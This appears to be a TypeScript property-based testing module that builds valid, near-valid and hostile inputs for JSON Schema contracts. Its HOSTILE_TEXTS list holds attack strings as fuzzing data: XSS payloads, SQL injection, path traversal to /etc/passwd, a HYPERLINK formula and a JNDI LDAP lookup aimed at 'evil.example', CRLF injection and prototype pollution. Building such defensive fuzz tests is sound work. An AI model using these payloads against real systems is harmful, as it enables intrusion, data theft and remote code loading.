import fc from 'fast-check';
import * as z from 'zod';

/** Values for a JSON Schema, of the subset that the contracts are written in: what it takes, what it nearly takes, and what it must not. */

const schemaShape = z.looseObject({
  type: z.union([z.string(), z.array(z.string())]).optional(),
  const: z.unknown().optional(),
  enum: z.array(z.unknown()).optional(),
  anyOf: z.array(z.unknown()).optional(),
  oneOf: z.array(z.unknown()).optional(),
  allOf: z.array(z.unknown()).optional(),
  properties: z.record(z.string(), z.unknown()).optional(),
  required: z.array(z.string()).optional(),
  additionalProperties: z.unknown().optional(),
  items: z.unknown().optional(),
  prefixItems: z.array(z.unknown()).optional(),
  minItems: z.number().optional(),
  maxItems: z.number().optional(),
  minLength: z.number().optional(),
  maxLength: z.number().optional(),
  pattern: z.string().optional(),
  minimum: z.number().optional(),
  maximum: z.number().optional(),
  exclusiveMinimum: z.number().optional(),
  exclusiveMaximum: z.number().optional(),
  $ref: z.string().optional(),
  $defs: z.record(z.string(), z.unknown()).optional(),
});
type Schema = z.infer<typeof schemaShape>;
type Values = fc.Arbitrary<unknown>;

const MOST = 8;

const regExpOf = (pattern: string): RegExp => new RegExp(pattern, /\\[pu]\{/.test(pattern) ? 'u' : '');

const textOf = ({ pattern, minLength = 0, maxLength }: Schema): Values =>
  pattern === undefined
    ? fc.string({ minLength, maxLength: Math.max(minLength, Math.min(maxLength ?? 40, 200)), unit: 'grapheme' })
    : fc.stringMatching(regExpOf(pattern), maxLength === undefined ? {} : { maxLength });
/** Several rules of one text: names, of which some are right for all. */
const NAMES = ['우리집', 'Flat 3', 'a', '아버지댁 2층', 'x'.repeat(30)];

const integerOf = (schema: Schema): Values => {
  const min = schema.minimum ?? (schema.exclusiveMinimum === undefined ? -1_000_000 : schema.exclusiveMinimum + 1);
  const max = schema.maximum ?? (schema.exclusiveMaximum === undefined ? undefined : schema.exclusiveMaximum - 1);
  return fc.integer({ min: Math.ceil(min), max: Math.floor(max ?? Math.max(min, 0) + 1_000_000) });
};
const numberOf = (schema: Schema): Values => {
  const { minimum, exclusiveMinimum, maximum, exclusiveMaximum } = schema;
  const min = minimum ?? exclusiveMinimum ?? -1e6;
  const max = maximum ?? exclusiveMaximum ?? Math.max(min, 0) + 1e6;
  return fc.double({
    min,
    max,
    noNaN: true,
    minExcluded: exclusiveMinimum === min,
    maxExcluded: exclusiveMaximum === max,
  });
};

const objectOf = (schema: Schema, root: Schema): Values => {
  const { properties = {}, required = [], additionalProperties: more } = schema;
  const known = Object.fromEntries(Object.entries(properties).map(([name, one]) => [name, valuesOf(one, root)]));
  const own = fc.record(known, { requiredKeys: required.filter((name) => name in known) });
  if (typeof more !== 'object' || more === null) return own;
  const others = fc.dictionary(fc.string({ minLength: 1, maxLength: 12 }), valuesOf(more, root), { maxKeys: 3 });
  return fc.tuple(others, own).map(([one, other]) => ({ ...one, ...other }));
};

const listOf = ({ items, prefixItems, minItems = 0, maxItems = MOST }: Schema, root: Schema): Values => {
  if (prefixItems) return fc.tuple(...prefixItems.map((one) => valuesOf(one, root)));
  const maxLength = Math.max(minItems, Math.min(maxItems, MOST));
  return fc.array(items === undefined ? fc.constant(1) : valuesOf(items, root), { minLength: minItems, maxLength });
};

const BY_TYPE: Readonly<Record<string, (schema: Schema, root: Schema) => Values>> = {
  string: textOf,
  integer: integerOf,
  number: numberOf,
  boolean: () => fc.boolean(),
  null: () => fc.constant(null),
  array: listOf,
  object: objectOf,
};

/** One of several values, or of several schemas; undefined: neither is asked for. */
const choiceOf = (schema: Schema, root: Schema): Values | undefined => {
  if ('const' in schema) return fc.constant(schema.const);
  if (schema.enum) return fc.constantFrom(...schema.enum);
  const several = schema.anyOf ?? schema.oneOf ?? alternatives(schema);
  if (several) return fc.oneof(...several.map((one) => valuesOf(one, root)));
  // of texts alone: several rules of one name
  return schema.allOf && fc.constantFrom(...NAMES);
};
const alternatives = (schema: Schema): Schema[] | undefined =>
  Array.isArray(schema.type) ? schema.type.map((type) => ({ ...schema, type })) : undefined;

/** What a schema takes, as far as its JSON Schema says; a check that only code makes may still refuse it. */
const valuesOf = (given: unknown, root: Schema): Values => {
  if (typeof given === 'boolean') return fc.jsonValue({ maxDepth: 2 });
  const schema = schemaShape.parse(given);
  if (schema.$ref !== undefined) return valuesOf(root.$defs?.[schema.$ref.split('/').at(-1) ?? ''] ?? true, root);
  return choiceOf(schema, root) ?? BY_TYPE[String(schema.type)]?.(schema, root) ?? fc.jsonValue({ maxDepth: 2 });
};

const takenBy = (schema: unknown): Values => valuesOf(schema, schemaShape.parse(schema));

const nested = (depth: number): unknown => (depth === 0 ? 0 : [nested(depth - 1)]);

/** Texts that have hurt somebody: markup, paths, formulas, control characters, halves of characters, names of JavaScript's own, numbers in other clothes. */
export const HOSTILE_TEXTS: readonly string[] = [
  '',
  ' ',
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  "'; DROP TABLE homes; --",
  '../../../etc/passwd',
  '..\\..\\secret',
  '=HYPERLINK("http://evil.example","x")',
  '${jndi:ldap://evil.example}',
  '{{7*7}}',
  '__proto__',
  'constructor',
  'toString',
  'hasOwnProperty',
  '\u0000',
  'a\u0000b',
  '\r\nset-cookie: a=b',
  '\u001b[31m',
  '\u202eabc',
  '\ud800',
  '\udfff\ud800',
  '\ufeff',
  'ﷺ'.repeat(50),
  '👩‍👩‍👧‍👦',
  'İ',
  'ß'.repeat(300),
  'a'.repeat(5000),
  '1e309',
  '-0',
  'NaN',
  '0x10',
  '９',
  '2026-02-30',
  '9999999999999999999999',
  'H#h-theirs',
  'h-theirs',
];
const HOSTILE: readonly unknown[] = [
  ...HOSTILE_TEXTS,
  null,
  true,
  0,
  -0,
  -1,
  0.1,
  1e308,
  -1e308,
  2 ** 31,
  2 ** 53,
  -(2 ** 53),
  Number.MAX_SAFE_INTEGER,
  [],
  {},
  [[]],
  nested(12),
  nested(3000),
  JSON.parse('{"__proto__":{"polluted":true},"constructor":{"prototype":{"polluted":true}}}'),
];
const hostile: Values = fc.oneof(
  { weight: 3, arbitrary: fc.constantFrom(...HOSTILE) },
  { weight: 1, arbitrary: fc.jsonValue({ maxDepth: 3, stringUnit: 'binary' }) },
);
export const hostileText: fc.Arbitrary<string> = fc.oneof(
  { weight: 3, arbitrary: fc.constantFrom(...HOSTILE_TEXTS) },
  { weight: 1, arbitrary: fc.string({ unit: 'binary', maxLength: 60 }) },
);

/** Where a value may be changed: itself, and each member at any depth. */
const placesIn = (value: unknown, at: readonly string[] = []): (readonly string[])[] =>
  typeof value === 'object' && value !== null
    ? [at, ...Object.entries(value).flatMap(([name, one]) => placesIn(one, [...at, name]))]
    : [at];

const changedAt = (value: unknown, [name, ...rest]: readonly string[], to: unknown): unknown => {
  if (name === undefined) return to;
  const members = Object.entries(Object(value)).map(([key, one]) => [
    key,
    key === name ? changedAt(one, rest, to) : one,
  ]);
  return Array.isArray(value) ? members.map(([, one]) => one) : Object.fromEntries(members);
};

/** What a schema takes but for one thing: a member of another kind, or one more that it does not know. */
const nearly = (schema: unknown): Values =>
  fc.tuple(takenBy(schema), hostile, fc.nat(), hostileText, fc.boolean()).map(([value, wrong, n, name, isMore]) => {
    if (isMore && typeof value === 'object' && value !== null && !Array.isArray(value))
      return Object.fromEntries([...Object.entries(value), [name, wrong]]);
    const places = placesIn(value);
    return changedAt(value, places[n % places.length] ?? [], wrong);
  });

/** Something for a schema: right, nearly right, or nothing like it. */
export const sentTo = (schema: unknown): Values =>
  fc.oneof(
    { weight: 3, arbitrary: takenBy(schema) },
    { weight: 4, arbitrary: nearly(schema) },
    { weight: 1, arbitrary: hostile },
  );
